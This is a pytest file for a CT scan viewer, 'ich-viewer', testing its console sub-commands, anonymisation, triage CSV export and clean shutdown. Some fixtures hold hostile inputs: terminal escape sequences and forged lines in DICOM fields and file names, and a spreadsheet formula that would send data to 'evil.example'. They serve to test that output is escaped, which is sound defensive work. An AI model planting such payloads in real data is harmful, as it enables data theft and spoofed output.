"""The console entry point's headless sub-commands."""

from __future__ import annotations

import csv
import os
import subprocess
import sys
from pathlib import Path

import pydicom
import pytest

from ich_viewer.__main__ import main
from tests.conftest import dicom_testfile


def test_phantom_writes_a_study_that_info_reads(tmp_path, capsys):
    out = tmp_path / "phantom"
    assert main(["phantom", str(out), "--seed", "7", "--subtypes", "epidural,subdural", "--slices", "6", "--size", "128"]) == 0
    assert "wrote 6 slices" in capsys.readouterr().out
    files = sorted(out.glob("ID_*.dcm"))
    assert len(files) == 6 and (out / "labels.csv").exists()
    assert "epidural" in pydicom.dcmread(files[0]).SeriesDescription
    assert main(["info", str(out)]) == 0
    printed = capsys.readouterr().out
    assert "6 slices 128x128" in printed and "1 other file (CSV/TXT) not read" in printed
    assert "skipped" not in printed  # its labels.csv is beside the study, not a broken image
    assert main(["info", str(files[0])]) == 0  # one slice: "1 slice", and no distance between slices
    assert "1 slice 128x128, spacing -/1.88/1.88 mm" in capsys.readouterr().out


def test_bad_arguments_give_a_message_and_exit_2(tmp_path, capsys):
    assert main(["phantom", str(tmp_path / "x"), "--subtypes", "stroke"]) == 2
    assert "unknown subtype" in capsys.readouterr().err
    assert main(["info", str(tmp_path)]) == 2
    assert "No CT images found" in capsys.readouterr().err
    for command in ("info", "triage", "calibrate"):  # a path that is not there is named as such
        assert main([command, str(tmp_path / "nonexistent")]) == 2
        assert capsys.readouterr().err == f"ich-viewer: no such file or folder: {tmp_path / 'nonexistent'}\n"


def test_info_anonymised_numbers_what_it_would_name(tmp_path, capsys):
    """Found by an outside tester: `info` printed each skipped file's path, and has UIDs and dates besides."""
    out = tmp_path / "DOE_JOHN"
    assert main(["phantom", str(out), "--seed", "7", "--slices", "3", "--size", "64"]) == 0
    (out / "DOE_JOHN_broken.dcm").write_bytes(b"not dicom")
    header = pydicom.dcmread(sorted(out.glob("ID_*.dcm"))[0], stop_before_pixels=True)
    capsys.readouterr()
    assert main(["info", str(out)]) == 0
    named = capsys.readouterr().out
    assert header.StudyInstanceUID in named and "DOE_JOHN_broken.dcm" in named  # for the user who asked
    assert main(["info", str(out), "--anonymise"]) == 0
    printed = capsys.readouterr().out
    for private in ("DOE", header.StudyInstanceUID, header.SeriesInstanceUID, header.StudyDate):
        assert private not in printed, private
    assert "study 1  " in printed and "  series 1.1: 3 slices" in printed and "skipped file 1 of 5: " in printed


HOSTILE_DESCRIPTION = "line1\nFAKE: study 9 of 9\x1b]0;TITLE\x07\x1b[31mRED\x1b[2J\u202eevil"
FORMULA_ID = '=HYPERLINK("http://evil.example/?"&A2,"open")'


def _hostile_study(tmp_path: Path) -> Path:
    out = tmp_path / "hostile"
    assert main(["phantom", str(out), "--slices", "3", "--size", "64"]) == 0
    (out / "labels.csv").unlink()
    for path in sorted(out.glob("ID_*.dcm")):
        ds = pydicom.dcmread(path)
        ds.SpecificCharacterSet = "ISO_IR 192"  # an ESC in UTF-8 text: pydicom warns about an unknown escape
        ds.SeriesDescription, ds.PatientID = HOSTILE_DESCRIPTION, FORMULA_ID
        ds.save_as(path)
    (out / "bad\x1b[2Jname\n.dcm").write_bytes(b"not dicom")
    return out


def test_text_from_files_cannot_steer_the_terminal_or_forge_output_lines(tmp_path, capsys):
    """Found by an outside tester: `info` printed a description's ESC sequences (clearing the screen, setting the
    window title) and newline (a forged "study 9 of 9" line) verbatim, and file names likewise."""
    study = _hostile_study(tmp_path)
    for path in sorted(study.glob("ID_*.dcm")):  # a third tester: a UID's newline forged a line too
        ds = pydicom.dcmread(path)
        ds.StudyInstanceUID, ds.SeriesInstanceUID = "1.2.3\nFAKE: study 8 of 9", "1.2.4\x1b[2J"
        ds.save_as(path)
    capsys.readouterr()
    assert main(["info", str(study)]) == 0
    printed = capsys.readouterr().out
    assert "\x1b" not in printed and "\x07" not in printed and "\u202e" not in printed
    assert not any(line.startswith("FAKE") for line in printed.splitlines())
    assert "line1\\x0aFAKE: study 9 of 9\\x1b]0;TITLE\\x07" in printed  # shown, as escapes
    assert "bad\\x1b[2Jname\\x0a.dcm" in printed
    assert "study 1.2.3\\x0aFAKE: study 8 of 9" in printed and "series 1.2.4\\x1b[2J:" in printed


def test_triage_output_is_spreadsheet_safe_and_its_stderr_free_of_pydicom_chatter(tmp_path):
    """Found by an outside tester: a patient ID "=HYPERLINK(...)" went into the CSV as a formula a spreadsheet
    runs, and pydicom's warnings about the file's text (12 lines and a source line) reached triage's stderr."""
    study = _hostile_study(tmp_path)
    out = tmp_path / "results" / "slices.csv"
    out.parent.mkdir()
    env = {**os.environ, "HOME": str(tmp_path / "home")}
    run = subprocess.run([sys.executable, "-m", "ich_viewer", "triage", str(study), "--out", str(out)],
                         capture_output=True, text=True, timeout=300, env=env)
    assert run.returncode == 0, run.stderr
    assert "pydicom" not in run.stderr and "Warning" not in run.stderr, run.stderr
    assert "\x1b" not in run.stderr
    rows = list(csv.DictReader(out.open()))
    assert len(rows) == 3 and {row["patient"] for row in rows} == {"'" + FORMULA_ID}
    assert all(row["z"].startswith("-") or float(row["z"]) >= 0 for row in rows)  # numbers are left as they are
    run = subprocess.run([sys.executable, "-m", "ich_viewer", "triage", str(study)], capture_output=True, text=True,
                         timeout=300, env=env)  # the table on standard output: no raw ESC either
    assert run.returncode == 0 and '"\'=HYPERLINK(' in run.stdout, run.stdout  # quoted by the CSV, and defused
    assert "\x1b" not in run.stdout, [line for line in run.stdout.splitlines() if "\x1b" in line]


def test_a_csv_file_written_by_triage_holds_no_control_characters_from_the_files(tmp_path):
    """Left alone at stop 27: standard output escaped a file's ESC bytes, but `--out slices.csv` kept them, so
    `cat slices.csv` cleared the screen. Names and IDs are written with their controls as escapes."""
    study = _hostile_study(tmp_path)
    (study / "bad\x1b[2Jname\n.dcm").unlink()
    first = sorted(study.glob("ID_*.dcm"))[0]
    first.rename(study / "ID_\x1b[2Jslice.dcm")
    for path in study.glob("ID_*.dcm"):
        ds = pydicom.dcmread(path)
        ds.PatientID = "P\x1b]0;TITLE\x07"
        ds.save_as(path)
    out = tmp_path / "slices.csv"
    env = {**os.environ, "HOME": str(tmp_path / "home")}
    run = subprocess.run([sys.executable, "-m", "ich_viewer", "triage", str(study), "--out", str(out)],
                         capture_output=True, text=True, timeout=300, env=env)
    assert run.returncode == 0, run.stderr
    written = out.read_text()
    assert "\x1b" not in written and "\x07" not in written
    rows = list(csv.DictReader(out.open()))
    assert len(rows) == 3 and {row["patient"] for row in rows} == {"P\\x1b]0;TITLE\\x07"}
    assert sum(row["path"].endswith("ID_\\x1b[2Jslice.dcm") for row in rows) == 1


def test_console_script_help_lists_subcommands():
    run = subprocess.run([sys.executable, "-m", "ich_viewer", "--help"], capture_output=True, text=True, timeout=60)
    assert run.returncode == 0 and "--demo" in run.stdout and "phantom" in run.stdout


def test_the_demo_study_is_written_once_to_the_cache_and_reused(tmp_path):
    """Killing the viewer used to leave a 19 MB temporary folder behind each time: now there is one, kept."""
    code = "from ich_viewer.demo import demo_study_dir; d = demo_study_dir(); print(d, len(list(d.glob('*.dcm'))))"
    env = {**os.environ, "XDG_CACHE_HOME": str(tmp_path / "cache"), "TMPDIR": str(tmp_path / "tmp")}
    (tmp_path / "tmp").mkdir()
    runs = [subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=120, env=env)
            for _ in range(2)]
    assert [r.returncode for r in runs] == [0, 0], runs[0].stderr + runs[1].stderr
    (first, n_files), (second, _) = (r.stdout.split() for r in runs)
    assert first == second and int(n_files) == 36
    assert Path(first).parent == tmp_path / "cache" / "ich-viewer" and Path(first).name.startswith("demo-0.1.0-")
    assert sorted(p.name for p in Path(first).parent.iterdir()) == [Path(first).name]  # no partial copy left
    assert not any((tmp_path / "tmp").iterdir())  # nothing in the temporary folder


def test_the_demo_runs_where_the_home_folder_cannot_be_written(tmp_path):
    """Found by an outside tester: with a read-only or missing home (a locked-down laptop) --demo showed
    "Something went wrong: Read-only file system" over an empty window, and --quit-after never quit."""
    code = ("from ich_viewer.demo import demo_study_dir; d = demo_study_dir(); "
            "print(d, len(list(d.glob('*.dcm'))))")
    env = {**os.environ, "HOME": "/proc/no-home", "XDG_CACHE_HOME": "/proc/no-home/.cache",
           "TMPDIR": str(tmp_path / "tmp")}
    (tmp_path / "tmp").mkdir()
    run = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=120, env=env)
    assert run.returncode == 0, run.stderr
    folder, n_files = run.stdout.split()
    assert Path(folder).is_relative_to(tmp_path / "tmp") and int(n_files) == 36
    assert not any((tmp_path / "tmp").iterdir())  # removed when the program ended
    # a third tester: a run ended by SIGTERM, SIGHUP or kill -9 left its 19 MB folder; the next start removes it
    killed = subprocess.Popen([sys.executable, "-u", "-c", code + "; import time; time.sleep(60)"], env=env,
                              stdout=subprocess.PIPE, text=True)
    left = Path(killed.stdout.readline().split()[0]).parent
    killed.kill()
    killed.wait()
    assert left.is_dir()
    run = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=120, env=env)
    assert run.returncode == 0 and not left.exists() and not any((tmp_path / "tmp").iterdir())
    env["QT_QPA_PLATFORM"] = "offscreen"
    run = subprocess.run([sys.executable, "-m", "ich_viewer", "--demo", "--quit-after", "8"], capture_output=True,
                         text=True, timeout=180, env=env)
    assert run.returncode == 0, run.stderr
    assert "a series of 36 slices open" in run.stdout
    assert not any((tmp_path / "tmp").iterdir())


def test_quit_after_ends_the_program_even_with_a_message_box_open(tmp_path):
    """With no folder writable at all the demo's message box is modal; --quit-after still ends the run."""
    code = ("import sys, ich_viewer.demo as demo\n"
            "def refuse(seed=2019): raise OSError(30, 'Read-only file system')\n"
            "demo.demo_study_dir = refuse\n"
            "from ich_viewer.app import run_gui\n"
            "sys.exit(run_gui(demo=True, quit_after=3))\n")
    env = {**os.environ, "HOME": str(tmp_path), "QT_QPA_PLATFORM": "offscreen"}
    run = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=120, env=env)
    assert run.returncode == 0, run.stderr
    assert "the window ran 3 s" in run.stdout and "no series open" in run.stdout


def test_quit_after_takes_only_a_time_that_ends(capsys):
    """A third tester: --quit-after nan, inf or 1e10 kept the window open for ever, and -1 was accepted."""
    import pytest

    for value in ("nan", "inf", "1e10", "-1", "soon"):
        with pytest.raises(SystemExit) as exited:
            main(["--quit-after", value])
        assert exited.value.code == 2
        assert "is not a number of seconds" in capsys.readouterr().err


def test_line_separators_and_zero_width_characters_are_escaped_too():
    from ich_viewer.core.errors import escaped_controls, terminal_safe

    assert escaped_controls("a\u2028b\u200bc\ufeffd") == "a\\u2028b\\u200bc\\ufeffd"
    assert terminal_safe("x\u2029y\n") == "x\\u2029y\n"


# The viewer's own entry point, with the demo study opening; after argv[2] ms, argv[1]: "close" (the title bar's X)
# or "interrupt" (Ctrl-C in the terminal).
GUI_THEN = ("import os, signal, sys\n"
            "from PySide6.QtCore import QTimer\n"
            "from PySide6.QtWidgets import QApplication\n"
            "from ich_viewer.app import run_gui\n"
            "app = QApplication(sys.argv[:1])\n"
            "close = lambda: [w.close() for w in app.topLevelWidgets() if w.isVisible()]\n"
            "interrupt = lambda: os.kill(os.getpid(), signal.SIGINT)\n"
            "QTimer.singleShot(int(sys.argv[2]), close if sys.argv[1] == 'close' else interrupt)\n"
            "sys.exit(run_gui(demo=True))\n")


def gui_then(action: str, delay_ms: int, home: Path) -> subprocess.CompletedProcess:
    env = {**os.environ, "HOME": str(home), "QT_QPA_PLATFORM": "offscreen"}
    try:
        return subprocess.run([sys.executable, "-c", GUI_THEN, action, str(delay_ms)], capture_output=True, text=True,
                              timeout=60, env=env)
    except subprocess.TimeoutExpired:
        pytest.fail(f"the viewer was still running 60 s after its {action}")


@pytest.mark.parametrize("delay_ms", [0, 300])
def test_closing_the_window_while_its_study_opens_ends_the_program_cleanly(tmp_path, delay_ms):
    """Found by an outside tester: closing the window within a second of opening a study aborted the program at
    exit ("QThread: Destroyed while thread is still running", 15 of 15 runs). The scan ended after the close,
    opened its series in the closed window and started a classification there, still running when Python exited.
    --quit-after, which the smoke tests use, also ends the event loop at once and never showed it."""
    run = gui_then("close", delay_ms, tmp_path)
    assert run.returncode == 0, run.stderr[-3000:]
    assert "Destroyed while thread" not in run.stderr and "Fatal" not in run.stderr


@pytest.mark.parametrize("delay_ms", [0, 1500])
def test_ctrl_c_ends_the_viewer_with_one_line_and_exit_code_130(tmp_path, delay_ms):
    """Found by an outside tester: Ctrl-C in the terminal raised KeyboardInterrupt inside a Qt call; the error hook
    showed an empty "Something went wrong: " box and the program never ended (46 of 55 runs), and during start-up
    on a busy machine it sometimes crashed. It now closes the window as a user would and exits 130."""
    run = gui_then("interrupt", delay_ms, tmp_path)
    assert run.returncode == 130, run.stderr[-3000:]
    assert "ich-viewer: interrupted" in run.stderr and "Something went wrong" not in run.stderr
    assert "Traceback" not in run.stderr and "Destroyed while thread" not in run.stderr
    # closed as a user would: the window's geometry is written on close (an open writes only its folder)
    assert "geometry" in (tmp_path / ".config" / "ICH Viewer" / "ICH Viewer.conf").read_text()


def test_quitting_before_the_first_study_is_open_ends_cleanly(tmp_path):
    """Found while adding Qt's style options: with a fresh home the demo is still being written when --quit-after 1
    closes the window, and an event filter on the image, still called while the window was torn down, crashed
    the program at exit (3 of 3 runs)."""
    env = {**os.environ, "HOME": str(tmp_path / "home"), "QT_QPA_PLATFORM": "offscreen"}
    run = subprocess.run([sys.executable, "-m", "ich_viewer", "--demo", "--quit-after", "0.5"], capture_output=True,
                         text=True, timeout=120, env=env)
    assert run.returncode == 0, run.stderr[-2000:]
    assert "Fatal" not in run.stderr


def test_qt_style_options_reach_qt_for_a_dark_or_high_contrast_look(tmp_path):
    """An outside tester: `ich-viewer --demo -style fusion` ended with "unrecognized arguments: -style", though any Qt
    program takes Qt's style options. A style sheet given with -stylesheet is applied to the real window."""
    sheet = tmp_path / "contrast.qss"
    sheet.write_text("QStatusBar { background: #ff00ff; }")
    shot = tmp_path / "window.png"
    env = {**os.environ, "HOME": str(tmp_path / "home"), "QT_QPA_PLATFORM": "offscreen"}
    run = subprocess.run([sys.executable, "-m", "ich_viewer", "--demo", "-style", "fusion", "-stylesheet", str(sheet),
                          "--quit-after", "1", "--screenshot", str(shot)], capture_output=True, text=True, timeout=120,
                         env=env)
    assert run.returncode == 0, run.stderr[-2000:]
    from PySide6.QtGui import QImage

    image = QImage(str(shot))
    assert image.pixelColor(image.width() // 2, image.height() - 3).name() == "#ff00ff"  # the status bar's colour
    # a second tester: before a sub-command, "-style fusion info X" opened the window with "info" as a path
    run = subprocess.run([sys.executable, "-m", "ich_viewer", "-style", "fusion", "info", dicom_testfile("CT_small.dcm")],
                         capture_output=True, text=True, timeout=120, env=env)
    assert run.returncode == 0 and "series" in run.stdout and "1 slice" in run.stdout, run.stderr[-2000:]
